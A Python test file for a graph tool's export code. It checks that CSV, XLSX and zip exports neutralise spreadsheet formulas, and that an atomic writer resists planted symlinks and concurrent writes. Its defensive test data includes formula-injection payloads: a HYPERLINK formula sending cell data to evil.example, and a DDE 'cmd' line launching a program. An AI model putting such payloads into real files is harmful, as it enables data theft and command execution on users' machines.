"""Safe exports (issue 13, points 8 and 9): no spreadsheet formula, templates filled once, one atomic
writer that follows no planted symlink and never shares a temp file."""

from __future__ import annotations

import csv
import io
import os
import threading
import zipfile

import pandas as pd

from graph.files import write_atomic
from graph.index import GraphIndex
from graph.model import Document, Edge, EdgeType, Label, Node, PolicyGraph
from render import tables
from render.standalone import standalone_html
from render.tour import Tour, TourStep

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]


def hostile_graph() -> PolicyGraph:
    doc = "doc:%VIS%"
    nodes = [Node(doc, Label.POLICY, "%DATA% 标题 %VIS%", {"title": "%DATA% 标题 %VIS%", "doc_id": doc})]
    nodes += [Node(f"actor:{name}", Label.ACTOR, name, {}) for name in HOSTILE]
    edges = [Edge(doc, f"actor:{name}", EdgeType.INVOLVES, doc, f"{name}参与") for name in HOSTILE]
    return PolicyGraph(tuple(nodes), tuple(edges), (Document(doc, "x.txt", "…"),))


def test_csv_exports_neutralise_formula_cells():
    for name, content in tables.csv_files(hostile_graph()).items():
        cells = [c for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for c in row]
        assert not [c for c in cells if c and c[0] in "=+-@"], (name, cells)
    nodes = tables.csv_files(hostile_graph())["nodes.csv"].decode("utf-8-sig")
    assert "'=HYPERLINK(" in nodes and "'@SUM(1,2)" in nodes


def test_xlsx_export_stores_formula_like_names_as_text():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(tables.xlsx_bytes(hostile_graph())))
    cells = [c for row in book["nodes"].iter_rows() for c in row if isinstance(c.value, str)]
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert not formulas
    assert HOSTILE[0] in [c.value for c in cells]  # kept as the name it is, as text


def test_the_apps_csv_downloads_neutralise_formula_cells():
    from app_pages.widgets import csv_bytes

    frame = pd.DataFrame({"主体": HOSTILE, "=列": [1, 2, 3, 4]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))))
    assert rows[0] == ["主体", "'=列"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]


def test_a_title_holding_placeholders_does_not_break_the_offline_page():
    graph = hostile_graph()
    tour = Tour("%VIS% 与 %DATA%", (TourStep("t", "custom", "%DATA%", "%VIS%", ("doc:%VIS%",)),), "doc:%VIS%")
    page = standalone_html(GraphIndex(graph), tour)
    assert page.count("vis-network") >= 1 and "%VIS% 与 %DATA%" in page
    assert page.count('id="workshop-data"') == 1


def test_write_atomic_replaces_a_planted_symlink_instead_of_following_it(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "out"
    out.mkdir()
    for name in (".tour.yaml.tmp", "tour.yaml"):  # the old predictable temp name, and the target itself
        (out / name).symlink_to(victim)
    write_atomic(out / "tour.yaml", "steps: []\n")
    assert victim.read_text() == "keep me"
    assert not (out / "tour.yaml").is_symlink() and (out / "tour.yaml").read_text() == "steps: []\n"
    assert sorted(p.name for p in out.iterdir()) == [".tour.yaml.tmp", "tour.yaml"]  # no temp file left


def test_concurrent_writers_each_leave_a_whole_file(tmp_path):
    target = tmp_path / "graph.json"
    contents = [(str(i) * 200_000).encode() for i in range(8)]
    errors = []

    def write(data: bytes) -> None:
        try:
            write_atomic(target, data)
        except OSError as err:  # a shared temp file makes one writer's rename fail
            errors.append(err)

    threads = [threading.Thread(target=write, args=(c,)) for c in contents]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors and target.read_bytes() in contents
    assert [p.name for p in tmp_path.iterdir()] == ["graph.json"]


def test_write_atomic_keeps_exports_readable(tmp_path):
    path = write_atomic(tmp_path / "a.csv", "x")
    assert os.stat(path).st_mode & 0o044 == 0o044  # group and others may read it, as before


def test_csv_zip_neutralises_too():
    with zipfile.ZipFile(io.BytesIO(tables.csv_zip(hostile_graph()))) as zf:
        text = zf.read("nodes.csv").decode("utf-8-sig")
    assert "\r\n=" not in text and ",=" not in text


def test_the_apps_tables_show_formula_like_cells_as_text_and_their_csv_download_neutralises_them():
    import pandas as pd

    from app_pages import widgets
    from app_pages.table_view import table_data

    frame = pd.DataFrame([{"name": "=HYPERLINK(\"http://x\")", "count": -3}, {"name": "平台企业", "count": 2}])
    shown = table_data(frame)  # written into the page with textContent: shown exactly as typed, never run
    assert shown["rows"] == [["=HYPERLINK(\"http://x\")", -3], ["平台企业", 2]]
    assert shown["numeric"] == [False, True]
    text = widgets.csv_bytes(frame).decode("utf-8-sig")
    assert "'=HYPERLINK" in text and "\n=" not in text and ",=" not in text
